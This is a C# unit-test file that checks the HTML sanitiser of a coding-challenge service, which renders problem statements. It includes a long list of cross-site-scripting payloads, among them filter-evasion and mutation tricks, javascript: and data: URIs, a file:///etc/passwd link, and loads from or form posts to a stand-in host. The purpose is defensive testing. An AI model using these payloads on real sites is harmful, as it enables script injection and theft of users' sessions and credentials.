using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using TalentSphere.Challenges.Catalogue;
using TalentSphere.TestKit;
using static TalentSphere.Challenges.Tests.ChallengesFixture;

namespace TalentSphere.Challenges.Tests;

public class StatementHtmlTests(ChallengesFixture service)
{
    private static readonly HashSet<string> _elements =
    [
        "a", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "ins", "kbd", "li", "mark",
        "ol", "p", "pre", "s", "samp", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul", "var",
    ];

    private static readonly HashSet<string> _attributes = ["align", "alt", "class", "href", "loading", "referrerpolicy", "rel", "src", "start", "title"];

    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<script/x>alert(1)",
        "</p><script>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<IMG SRC=\"https://ok.example/x.png\" ONERROR=\"alert(1)\">",
        "<img src=`x` onerror=alert(1)>",
        "<img src=https://ok.example/\" onerror=alert(1) x=\">",
        "<img src='https://ok.example/x.png' alt='\"><script>alert(1)</script>'>",
        "<b onmouseover=alert(1)>x</b>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<td style=\"text-align: left; background: url(//evil.example)\">x</td>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" \u0001javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"blob:https://x.example/1\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"\\\\evil.example\">x</a>",
        "<a href=\"http:javascript:alert(1)\">x</a>",
        "<a href=\"https://x.example\" target=_blank onclick=alert(1) ping=//evil.example>x</a>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT&colon;alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](java&#10;script:alert(1))",
        "[x](data:text/html,x)",
        "[x](https://ok.example \"\\\" onclick=alert(1)\")",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "![x](javascript:alert(1))",
        "![\" onerror=alert(1) x=\"](https://ok.example/x.png)",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=//evil.example/x.swf>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<x onclick=alert(1)>x</x>",
        "<custom-element is=x onclick=alert(1)>x</custom-element>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "```html\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "```x onmouseover=alert(1)\nx\n```",
        "`<script>alert(1)</script>`",
        "$<script>alert(1)</script>$",
        "$$\n<img src=x onerror=alert(1)>\n$$",
        "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|y|",
        "# <img src=x onerror=alert(1)>",
        "# title {onclick=alert(1)}",
        "x{: onclick=alert(1)}",
        "<div class=\"math\" id=\"constructor\" name=\"cookie\">x</div>",
        "<span class=\"math evil\" style=\"position:fixed\">x</span>",
        "<code class=\"language-x\" onclick=alert(1)>x</code>",
        "<code class=\"language-x&quot; onclick=&quot;alert(1)\">x</code>",
        "<ol start=\"1&quot; onclick=alert(1)\">x</ol>",
        "<a href=https://x.example/?a=\"><img src=x onerror=alert(1)>",
        "\0<scr\0ipt>alert(1)</script>",
        "\u2028<script>alert(1)</script>\u2029",
        "\uFEFF<script>alert(1)</script>",
        "<ſcript>alert(1)</ſcript>",
        "＜script＞alert(1)＜/script＞",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_in_a_statement_runs_loads_or_leads_astray(string statement)
    {
        foreach (var text in (string[])[statement, $"a {statement} b", $"> - {statement}", $"<div>{statement}</div>", statement + statement, $"\n\n{statement}\n\nend"])
        {
            var html = StatementHtml.Of(text);
            AssertHarmless(html, text);
            StatementHtml.Clean(html).ShouldBe(html, $"reading it again gives another tree: {text}");
        }
    }

    [Fact]
    public void Pieces_of_attacks_put_together_at_random_are_harmless_too()
    {
        string[] pieces = [.. Attacks.Select(a => a.Data), "<p>", "</p>", "<table>", "<tr>", "<td>", "</table>", "<b>", "</b>", "\"", "'", ">", "<", "&", "-->", "\n\n", "\n- ", "`", "$", "|"];
        var random = new Random(4711);
        for (var round = 0; round < 2000; round++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(2, 7)).Select(_ =>
            {
                var piece = pieces[random.Next(pieces.Length)];
                return piece[..random.Next(piece.Length + 1)];
            }));
            var html = StatementHtml.Of(text);
            AssertHarmless(html, text);
            StatementHtml.Clean(html).ShouldBe(html, $"reading it again gives another tree: {text}");
        }
    }

    [Theory]
    [InlineData("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <del>s</del> <code>c</code></p>\n")]
    [InlineData("2<sup>10</sup> and H<sub>2</sub>O", "<p>2<sup>10</sup> and H<sub>2</sub>O</p>\n")]
    [InlineData("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n")]
    [InlineData("$a < b$", "<p><span class=\"math\">\\(a &lt; b\\)</span></p>\n")]
    [InlineData("```c\nint x;\n```", "<pre><code class=\"language-c\">int x;\n</code></pre>\n")]
    [InlineData("[x](https://ok.example/a?b=c&d)", "<p><a href=\"https://ok.example/a?b=c&amp;d\" rel=\"nofollow noopener noreferrer ugc\">x</a></p>\n")]
    [InlineData("[x](mailto:a@ok.example)", "<p><a href=\"mailto:a@ok.example\" rel=\"nofollow noopener noreferrer ugc\">x</a></p>\n")]
    [InlineData("![a](https://ok.example/a.png)", "<p><img src=\"https://ok.example/a.png\" alt=\"a\" loading=\"lazy\" referrerpolicy=\"no-referrer\"></p>\n")]
    [InlineData("3. c\n4. d", "<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>\n")]
    public void What_statements_need_stays(string statement, string html) => StatementHtml.Of(statement).ShouldBe(html);

    [Fact]
    public void A_table_keeps_its_alignment() =>
        StatementHtml.Of("|a|b|\n|:-|-:|\n|1|2|").ReplaceLineEndings("").ShouldBe(
            """<table><thead><tr><th align="left">a</th><th align="right">b</th></tr></thead><tbody><tr><td align="left">1</td><td align="right">2</td></tr></tbody></table>""");

    [Theory]
    [InlineData("<b>")]
    [InlineData("<div>")]
    [InlineData("> ")]
    [InlineData("[")]
    [InlineData("**a")]
    [InlineData("<table><td>")]
    public void A_statement_nested_beyond_reason_ends_as_something_harmless(string piece)
    {
        var html = StatementHtml.Of(string.Concat(Enumerable.Repeat(piece, ChallengeRequest.MaxStatement / piece.Length)) + "x");
        AssertHarmless(html, piece);
        html.ShouldContain("x");
    }

    [Fact]
    public async Task A_statement_is_answered_as_it_was_written_and_as_safe_HTML()
    {
        var author = service.Instructor();
        const string statement = "Add *two* numbers.\r\n\r\n<script>alert(1)</script>\u00e9 <img src=x onerror=alert(1)>";
        var created = await author.PostAsync(Route, new { title = "<script>", statement, difficulty = "easy" });
        foreach (var answer in (Answer[])[created, await author.AskAsync($"{Route}/{created.Id}")])
        {
            answer.Data["statement"]!.GetValue<string>().ShouldBe(statement);
            var html = answer.Data["statementHtml"]!.GetValue<string>();
            html.ShouldStartWith("<p>Add <em>two</em> numbers.</p>");
            AssertHarmless(html, statement);
        }
    }

    /// <summary>Reads it as a browser does and accepts only what is known.</summary>
    private static void AssertHarmless(string html, string because)
    {
        foreach (var scripting in (bool[])[false, true])
        {
            var document = new HtmlParser(new HtmlParserOptions { IsScripting = scripting }).ParseDocument($"<!doctype html><body>{html}");
            foreach (var element in document.Body!.QuerySelectorAll("*"))
            {
                element.NamespaceUri.ShouldBe(NamespaceNames.HtmlUri, because);
                _elements.ShouldContain(element.LocalName, because);
                foreach (var attribute in element.Attributes)
                {
                    _attributes.ShouldContain(attribute.Name, because);
                    if (attribute.Name is "href" or "src")
                        (attribute.Value.StartsWith("https://") || (attribute.Name == "href" && (attribute.Value.StartsWith("http://") || attribute.Value.StartsWith("mailto:")))).ShouldBeTrue($"{attribute.Value} from {because}");
                    if (attribute.Name == "class")
                        attribute.Value.ShouldMatch(@"\A(math|language-[A-Za-z0-9+#-]{1,30})\z", because);
                }
            }
            document.Head!.ChildElementCount.ShouldBe(0, because);
            document.GetElementsByTagName("*").Length.ShouldBe(document.Body!.QuerySelectorAll("*").Length + 3, because);
        }
    }
}
